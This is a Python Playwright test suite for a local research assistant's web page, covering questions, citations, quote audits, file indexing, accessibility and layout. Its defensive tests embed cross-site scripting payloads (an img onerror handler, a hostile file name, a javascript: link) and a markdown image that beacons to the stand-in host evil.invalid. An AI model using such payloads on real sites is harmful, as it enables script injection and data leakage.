"""The page in a real browser: ask, open a citation, audit a draft, index a file, and nothing foreign gets in."""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, ConsoleMessage, Page, Request, sync_playwright

from assistant.serve.protect import Protection
from assistant.serve.run import LOCAL_NAMES
from tests.serving import serving

pytestmark = pytest.mark.door
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
QUIET = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
ATTACK = "<img src=x onerror=window.pwned=1>"
HOSTILE = f"{ATTACK} opens the dam\n\nThe dam was opened on Monday, {ATTACK} said. ![x](http://evil.invalid/?d=1)\n"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: apt-get install chromium, or name a browser in CHROMIUM")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def address(seed_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    home = tmp_path_factory.mktemp("browser") / "home"
    shutil.copytree(seed_home, home)
    with serving(home, Protection(hosts=LOCAL_NAMES)) as address:
        yield address


@pytest.fixture
def page(browser: Browser, address: str) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    page.set_default_timeout(90_000)
    foreign: list[str] = []

    def note_request(request: Request) -> None:
        if not request.url.startswith((address, "data:", "blob:")):
            foreign.append(request.url)

    def note_message(message: ConsoleMessage) -> None:
        if message.type == "error":
            foreign.append(message.text)

    page.on("request", note_request)
    page.on("console", note_message)
    page.goto(address)
    page.wait_for_selector('body[data-ready="true"]')
    yield page
    assert foreign == []  # nothing foreign was loaded, no policy was violated
    context.close()


def ask(page: Page, words: str, mode: str = "ask") -> None:
    page.check(f'input[name="mode"][value="{mode}"]', force=True)
    page.fill("#words", words)
    shown = page.locator(".reply, .error").count()
    page.press("#words", "Enter")
    page.locator(".reply, .error").nth(shown).wait_for()
    page.locator("#stop").wait_for(state="hidden")


def test_a_question_is_answered_and_its_citation_opens_at_the_words(page: Page) -> None:
    ask(page, "Which points do both articles agree on?")
    page.click(".reply .cite >> nth=0")
    cited = page.inner_text("#cited")
    assert cited
    assert cited in page.inner_text("#drawer-text")
    page.keyboard.press("Escape")
    assert page.is_hidden("#drawer")


def test_a_draft_is_audited(page: Page) -> None:
    ask(page, "He wrote “Remove all sanctions against Venezuela” and “Remove all sanctions against Cuba”.", "quotes")
    assert page.locator(".reply .label").all_inner_texts() == ["EXACT", "ALTERED"]


def test_an_indexed_file_is_listed_and_hostile_names_stay_text(page: Page, tmp_path: Path) -> None:
    path = tmp_path / "<b onmouseover=pwned=1>dam.txt"
    path.write_text(HOSTILE, encoding="utf-8")
    page.set_input_files("#article-files", str(path))
    page.get_by_text("1 of 1 indexed").wait_for()
    assert ATTACK in page.inner_text("#articles")
    ask(page, "When was the dam opened?")
    page.click(".reply .cite >> nth=0")
    assert page.evaluate("window.pwned") is None
    assert page.locator("main img, aside img").count() == 0


def test_a_question_full_of_markup_stays_text(page: Page) -> None:
    ask(page, f"{ATTACK} [x](javascript:alert(1))?")
    assert ATTACK in page.inner_text("#thread")
    assert page.evaluate("window.pwned") is None


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_accessibility_violation(page: Page, scheme: Literal["light", "dark"]) -> None:
    page.emulate_media(color_scheme=scheme)
    ask(page, "Which points do both articles agree on?")
    page.click(".reply .cite >> nth=0")
    found = Axe().run(page)
    assert [(v["id"], [n["html"] for n in v["nodes"]]) for v in found.response["violations"]] == []


def test_a_phone_shows_everything_without_scrolling_sideways(browser: Browser, address: str) -> None:
    page = browser.new_page(viewport={"width": 375, "height": 720})
    page.set_default_timeout(90_000)
    page.goto(address)
    page.wait_for_selector('body[data-ready="true"]')
    ask(page, "Which points do both articles agree on?")
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    page.close()
